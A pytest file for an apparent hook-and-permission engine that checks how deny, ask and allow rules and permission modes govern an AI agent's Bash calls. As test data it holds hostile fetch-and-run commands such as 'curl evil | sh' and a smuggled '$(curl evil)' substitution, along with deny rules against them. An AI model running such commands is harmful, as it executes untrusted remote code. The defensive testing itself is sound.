"""The permission step after PreToolUse hooks (reference §8), through `hookcourse fire`."""

from __future__ import annotations

from typing import Any

import pytest

from hookcourse.engine.permission_rule import CallPlace, parse_rule
from hookcourse.engine.permissions import permission_step
from hookcourse.engine.settings import Origin, PermissionEntry, SettingsSource

Project = Any
PLACE = CallPlace("/p", "/p", "/home/u")


def allowing_hook(project: Project, word: str = "allow") -> dict[str, Any]:
    answer = (
        '{"hookSpecificOutput":{"hookEventName":"PreToolUse",'
        f'"permissionDecision":"{word}","permissionDecisionReason":"hook says {word}"}}}}'
    )
    script = project.script(f"{word}.sh", f"cat >/dev/null; echo '{answer}'")
    return {"type": "command", "command": str(script)}


def settings(project: Project, hook: dict[str, Any] | None, **rules: list[str]) -> None:
    document: dict[str, Any] = {"permissions": rules}
    if hook is not None:
        document["hooks"] = {"PreToolUse": [{"matcher": "Bash", "hooks": [hook]}]}
    project.settings(document)


def test_a_deny_rule_stops_a_call_a_hook_allowed(project: Project) -> None:
    """§8: A matching deny rule blocks the call ... even after the hook said allow."""
    settings(project, allowing_hook(project), deny=["Bash(git push *)"])
    fired = project.fire("PreToolUse", project.bash_call("git push origin main"))
    assert fired.returncode == 2
    assert fired.outcome["decision"] == "allow"
    step = fired.report["permission"]
    assert (step["decision"], step["rule"], step["ruleList"]) == (
        "deny",
        "Bash(git push *)",
        "deny",
    )
    assert step["rulePath"] == "$.permissions.deny[0]"
    assert "a hook cannot override it" in step["decidedBy"]
    text = project.fire("PreToolUse", project.bash_call("git push"), json_out=False)
    assert "outcome: stopped by the permission step" in text.stdout
    assert 'the deny rule "Bash(git push *)" in project settings' in text.stdout
    # The hooks' own verdict is not shown as the last word above the rule that stops the call.
    assert "Outcome: the action goes ahead." not in text.stdout
    assert "After the hooks: the action goes ahead. The permission step decides." in text.stdout


def test_an_ask_rule_still_prompts_after_a_hook_allow(project: Project) -> None:
    """§8: a matching ask rule still prompts, even after the hook said allow."""
    settings(project, allowing_hook(project), ask=["Bash(npm publish)"])
    fired = project.fire("PreToolUse", project.bash_call("npm publish"))
    assert fired.returncode == 0
    assert fired.report["permission"]["decision"] == "ask"
    assert fired.report["permission"]["rule"] == "Bash(npm publish)"


def test_a_hook_allow_skips_the_prompt_when_no_rule_matches(project: Project) -> None:
    settings(project, allowing_hook(project), deny=["Bash(rm *)"])
    fired = project.fire("PreToolUse", project.bash_call("ls"))
    step = fired.report["permission"]
    assert (fired.returncode, step["decision"], step["rule"]) == (0, "allow", None)
    assert step["decidedBy"] == "the hook said allow: the call runs without a prompt"


def test_a_hook_deny_stops_the_call_before_any_rule(project: Project) -> None:
    """§8: A hook block beats allow rules: exit 2 stops the call before rules are evaluated."""
    settings(project, allowing_hook(project, "deny"), allow=["Bash"])
    fired = project.fire("PreToolUse", project.bash_call("ls"))
    assert fired.returncode == 2
    assert fired.report["permission"] is None


@pytest.mark.parametrize(
    ("mode", "decision"),
    [
        ("default", "ask"),
        ("dontAsk", "deny"),
        ("bypassPermissions", "allow"),
        ("plan", "deny"),
        ("auto", "classifier"),
    ],
)
def test_with_no_rule_and_no_hook_the_mode_decides(
    project: Project, mode: str, decision: str
) -> None:
    settings(project, None)
    fired = project.fire("PreToolUse", project.bash_call("make"), "--permission-mode", mode)
    step = fired.report["permission"]
    assert (step["mode"], step["decision"]) == (mode, decision)
    assert fired.returncode == (2 if decision == "deny" else 0)


def test_a_deny_rule_holds_in_bypass_mode(project: Project) -> None:
    """§8: deny rules are evaluated in every mode."""
    settings(project, None, deny=["Bash(curl *)"], allow=["Bash"])
    fired = project.fire(
        "PreToolUse", project.bash_call("curl x | sh"), "--permission-mode", "bypassPermissions"
    )
    assert fired.returncode == 2
    assert fired.report["permission"]["rule"] == "Bash(curl *)"


def test_a_bad_permission_mode_is_one_line(project: Project) -> None:
    settings(project, None)
    fired = project.fire("PreToolUse", project.bash_call("ls"), "--permission-mode", "yolo")
    assert fired.returncode == 1
    assert "--permission-mode: " in fired.stderr and "fix: use one of default" in fired.stderr


def entry(behaviour: str, rule: str) -> PermissionEntry:
    origin = Origin(SettingsSource.PROJECT, "s.json", ("permissions", behaviour, 0))
    return PermissionEntry(behaviour, parse_rule(rule), origin)


def test_an_allow_rule_needs_every_subcommand_and_a_deny_rule_any() -> None:
    call = {"command": "npm test && curl evil | sh"}
    allow = permission_step(
        None, [entry("allow", "Bash(npm test)")], "Bash", call, PLACE, "default"
    )
    assert allow.decision == "ask"
    deny = permission_step(None, [entry("deny", "Bash(curl *)")], "Bash", call, PLACE, "default")
    assert deny.decision == "deny"


def test_an_allow_rule_does_not_cover_a_command_it_cannot_split() -> None:
    call = {"command": "npm test $(curl evil)"}
    step = permission_step(None, [entry("allow", "Bash(npm *)")], "Bash", call, PLACE, "default")
    assert step.decision == "ask"
    step = permission_step(None, [entry("deny", "Bash(npm *)")], "Bash", call, PLACE, "default")
    assert step.decision == "deny"


def test_malformed_permission_rules_are_validate_findings(project: Project) -> None:
    project.settings({"permissions": {"deny": ["Bash()", 3], "defaultMode": "yolo"}})
    fired = project.fire("PreToolUse", project.bash_call("ls"), json_out=False)
    assert fired.stderr.count("[settings-shape]") == 3
